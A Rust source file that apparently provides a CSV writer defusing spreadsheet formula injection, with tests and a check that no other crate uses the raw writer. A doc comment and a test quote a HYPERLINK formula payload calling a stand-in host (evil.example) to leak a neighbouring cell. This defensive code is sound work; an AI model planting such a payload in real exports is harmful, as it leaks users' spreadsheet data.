//! The one way Acoge writes CSV. Every CSV the site or the CLI produces goes
//! through `SafeCsvWriter`, which defuses spreadsheet formula injection
//! (CWE-1236): a member can name a service `=HYPERLINK("http://evil/?"&A3)`
//! and a spreadsheet opening the file would run it.
//!
//! Cells are typed. `Cell::Text` is anything people typed or that comes
//! from the database as words; when it starts with a character that makes
//! a spreadsheet read a formula, the writer prefixes a single quote `'`, as
//! OWASP advises ("CSV Injection"). `Cell::Number` can only be built from a
//! Rust number (`f64`, `i64`, …), never from a string, so a value is kept
//! as a number because the code says it is one, not because a string looked
//! like one: text that merely resembles a number ("-5" typed as a name) is
//! defused like any other. Non-finite numbers (NaN, ±∞) are written empty.
//!
//! The raw `csv::Writer` is disallowed elsewhere (clippy.toml, and a test
//! below that greps every crate's sources).

use std::{borrow::Cow, io};

/// What makes a spreadsheet read a cell as a formula (`=`, `+`, `-`, `@`),
/// and tab, carriage return and line feed, which some programs strip before
/// looking at the next character. The full-width forms are included because
/// some spreadsheets fold them to ASCII.
const TRIGGERS: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// One cell of a row.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell<'a> {
    /// Words: defused when they could start a formula.
    Text(Cow<'a, str>),
    /// A number, written as Rust prints it (`-92.26`, `5`), never defused.
    Number(f64),
    /// A whole number, written as is.
    Integer(i64),
    /// Nothing (for an unknown value).
    Empty,
}

impl<'a> Cell<'a> {
    pub fn text(value: impl Into<Cow<'a, str>>) -> Self {
        Cell::Text(value.into())
    }

    /// A number cell, or an empty one for `None`.
    pub fn number(value: Option<f64>) -> Self {
        value.map_or(Cell::Empty, Cell::Number)
    }

    /// What goes into the file for this cell.
    fn render(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(text) => defuse(text),
            Cell::Number(n) if n.is_finite() => Cow::Owned(n.to_string()),
            Cell::Number(_) | Cell::Empty => Cow::Borrowed(""),
            Cell::Integer(n) => Cow::Owned(n.to_string()),
        }
    }
}

impl<'a> From<&'a str> for Cell<'a> {
    fn from(value: &'a str) -> Self {
        Cell::Text(Cow::Borrowed(value))
    }
}

impl From<String> for Cell<'_> {
    fn from(value: String) -> Self {
        Cell::Text(Cow::Owned(value))
    }
}

impl From<f64> for Cell<'_> {
    fn from(value: f64) -> Self {
        Cell::Number(value)
    }
}

impl From<i64> for Cell<'_> {
    fn from(value: i64) -> Self {
        Cell::Integer(value)
    }
}

/// A text as it may safely go into a cell: with a leading `'` when its first
/// character, or its first after leading spaces (some importers trim them),
/// could start a formula.
pub fn defuse(text: &str) -> Cow<'_, str> {
    if text.trim_start_matches(' ').starts_with(TRIGGERS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV writer whose every text cell is defused. Quoting is the csv
/// crate's (a field with a comma, a quote or a line break is quoted).
pub struct SafeCsvWriter<W: io::Write> {
    #[expect(clippy::disallowed_types, reason = "the one place that wraps it")]
    inner: csv::Writer<W>,
}

impl SafeCsvWriter<Vec<u8>> {
    /// A writer into memory; `into_string` gives the text.
    pub fn in_memory() -> Self {
        Self::new(Vec::new())
    }

    pub fn into_string(self) -> Result<String, csv::Error> {
        let bytes = self.into_inner()?;
        // Every cell came in as `str`, so the bytes are UTF-8.
        String::from_utf8(bytes).map_err(|e| {
            csv::Error::from(io::Error::new(io::ErrorKind::InvalidData, e.utf8_error()))
        })
    }
}

impl<W: io::Write> SafeCsvWriter<W> {
    #[expect(clippy::disallowed_types, reason = "the one place that wraps it")]
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes one row of typed cells.
    pub fn write_row<'a>(
        &mut self,
        cells: impl IntoIterator<Item = Cell<'a>>,
    ) -> Result<(), csv::Error> {
        let cells: Vec<Cell<'a>> = cells.into_iter().collect();
        let rendered: Vec<Cow<'_, str>> = cells.iter().map(Cell::render).collect();
        self.inner
            .write_record(rendered.iter().map(|c| c.as_bytes()))
    }

    /// Writes a row that is all text (a header, a row of labels), defused
    /// like any text.
    pub fn write_text_row<S: AsRef<str>>(
        &mut self,
        texts: impl IntoIterator<Item = S>,
    ) -> Result<(), csv::Error> {
        let texts: Vec<S> = texts.into_iter().collect();
        let rendered: Vec<Cow<'_, str>> = texts.iter().map(|t| defuse(t.as_ref())).collect();
        self.inner
            .write_record(rendered.iter().map(|c| c.as_bytes()))
    }

    /// Flushes and gives back what was written into.
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.inner
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_row(cells: Vec<Cell<'_>>) -> String {
        let mut writer = SafeCsvWriter::in_memory();
        writer.write_row(cells).unwrap();
        writer.into_string().unwrap()
    }

    #[test]
    fn text_that_could_start_a_formula_gets_a_leading_quote() {
        for (typed, written) in [
            ("=1+2", "'=1+2"),
            ("+52 962 000", "'+52 962 000"),
            ("-abc", "'-abc"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "\"'\rx\""),
            ("  =1", "'  =1"),
            ("＝1", "'＝1"),
            ("-5", "'-5"),
            ("Casa = hogar", "Casa = hogar"),
            ("07089", "07089"),
            ("#org +name", "#org +name"),
            ("", "\"\""),
        ] {
            assert_eq!(
                one_row(vec![Cell::text(typed)]),
                format!("{written}\n"),
                "{typed:?}"
            );
        }
    }

    #[test]
    fn a_hyperlink_formula_is_defused_and_quoted() {
        let cell = "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")";
        assert_eq!(
            one_row(vec![Cell::text(cell), Cell::text("b")]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Ver\"\")\",b\n"
        );
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(
            one_row(vec![
                Cell::Number(-92.26),
                Cell::Integer(-5),
                Cell::number(Some(14.9)),
                Cell::number(None),
                Cell::Number(f64::NAN),
                Cell::Empty,
            ]),
            "-92.26,-5,14.9,,,\n"
        );
    }

    #[test]
    fn header_rows_are_defused_too() {
        let mut writer = SafeCsvWriter::in_memory();
        writer.write_text_row(["Nombre", "-x"]).unwrap();
        assert_eq!(writer.into_string().unwrap(), "Nombre,'-x\n");
    }

    /// Where a crate's code names the csv crate's writer: `csv::Writer`,
    /// `WriterBuilder`, or `Writer` inside a `use csv::{…}`.
    fn raw_writer_uses(source: &str) -> Vec<usize> {
        let mut found = Vec::new();
        for (at, _) in source.match_indices("WriterBuilder") {
            found.push(at);
        }
        for (at, _) in source.match_indices("csv::") {
            let rest = &source[at + "csv::".len()..];
            let named = if rest.starts_with('{') {
                let group = &rest[..rest.find('}').unwrap_or(rest.len())];
                group
                    .split(|c: char| !(c.is_alphanumeric() || c == '_'))
                    .any(|word| word == "Writer")
            } else {
                rest.starts_with("Writer")
            };
            if named {
                found.push(at);
            }
        }
        found
    }

    fn rust_files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                rust_files(&path, out);
            } else if path.extension().is_some_and(|e| e == "rs") {
                out.push(path);
            }
        }
    }

    #[test]
    fn no_crate_reaches_the_raw_csv_writer() {
        let crates = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let mut files = Vec::new();
        for krate in std::fs::read_dir(&crates).unwrap() {
            let krate = krate.unwrap().path();
            for sub in ["src", "build.rs"] {
                let path = krate.join(sub);
                if path.is_dir() {
                    rust_files(&path, &mut files);
                } else if path.is_file() {
                    files.push(path);
                }
            }
        }
        assert!(files.len() > 50, "the walk found the sources");
        let offenders: Vec<String> = files
            .iter()
            .filter(|f| !f.ends_with("formats/src/csv_out.rs"))
            .filter(|f| !raw_writer_uses(&std::fs::read_to_string(f).unwrap()).is_empty())
            .map(|f| f.display().to_string())
            .collect();
        assert!(
            offenders.is_empty(),
            "write CSV through acoge_formats::csv_out::SafeCsvWriter: {offenders:?}"
        );
    }

    #[test]
    fn the_grep_sees_every_way_of_naming_the_writer() {
        assert!(!raw_writer_uses("let w = csv::Writer::from_writer(v);").is_empty());
        assert!(!raw_writer_uses("use csv::{Reader, Writer};").is_empty());
        assert!(!raw_writer_uses("csv::WriterBuilder::new()").is_empty());
        assert!(raw_writer_uses("use csv::{Reader, StringRecord};").is_empty());
        assert!(raw_writer_uses("csv::Error").is_empty());
    }
}
